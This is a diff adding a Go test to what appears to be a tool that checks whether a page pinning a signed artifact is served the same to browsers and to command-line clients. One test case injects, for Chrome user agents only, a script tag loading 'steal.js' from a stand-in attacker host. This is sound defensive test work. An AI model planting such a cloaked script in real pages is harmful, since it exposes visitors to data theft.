@@ -130,3 +130,61 @@ func TestSiteModeFetchesAsBrowsers(t *testing.T) {
 		})
 	}
 }
+
+// TestPageFetchedWithEveryProfile: the page that pins the artifact is
+// fetched with every client profile too, once each; a page that differs for
+// browsers fails even though its SRI pin is right.
+func TestPageFetchedWithEveryProfile(t *testing.T) {
+	t.Parallel()
+	w := getWorld(t)
+	good := sign(t, w, artifact, goodID(w))
+	c := newCDN(t, serve(artifact))
+	for _, tc := range []struct {
+		name   string
+		extra  string // appended to the page for the browser profiles only
+		code   int
+		reason string
+	}{
+		{name: "same page for everyone", code: cli.ExitVerified, reason: "ok"},
+		{name: "a script only browsers get", extra: `<script src="https://evil.example/steal.js"></script>`, code: cli.ExitFailed, reason: "inconsistent-serving"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+			var mu sync.Mutex
+			seen := map[string]int{}
+			page := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
+				mu.Lock()
+				seen[r.UserAgent()+" "+r.URL.RawQuery]++
+				mu.Unlock()
+				fmt.Fprintf(rw, `<!doctype html><script type="module" integrity="%s" src="%s/%s"></script>`, sri384(artifact), c.URL, artifactName)
+				if strings.Contains(r.UserAgent(), "Chrome/") {
+					fmt.Fprint(rw, tc.extra)
+				}
+			}))
+			t.Cleanup(page.Close)
+			args := verifyArgs(w, c, good)
+			for i, a := range args {
+				if a == c.URL+"/kms.html" {
+					args[i] = page.URL + "/kms.html"
+				}
+			}
+			res := run(t, runOpts{}, args...)
+			if res.code != tc.code || res.rep == nil || res.rep.Reason != tc.reason {
+				t.Fatalf("exit %d, want %d (%q)\n%s%s", res.code, tc.code, tc.reason, res.stdout, res.stderr)
+			}
+			mu.Lock()
+			defer mu.Unlock()
+			if len(seen) != 3 {
+				t.Errorf("page requests %v; want one per profile (browser, tool, cache-bust)", seen)
+			}
+			for k, n := range seen {
+				if n != 1 {
+					t.Errorf("%q fetched the page %d times", k, n)
+				}
+			}
+			if res.rep.Page == nil || len(res.rep.Page.Served) != 3 {
+				t.Errorf("report page served = %+v", res.rep.Page)
+			}
+		})
+	}
+}
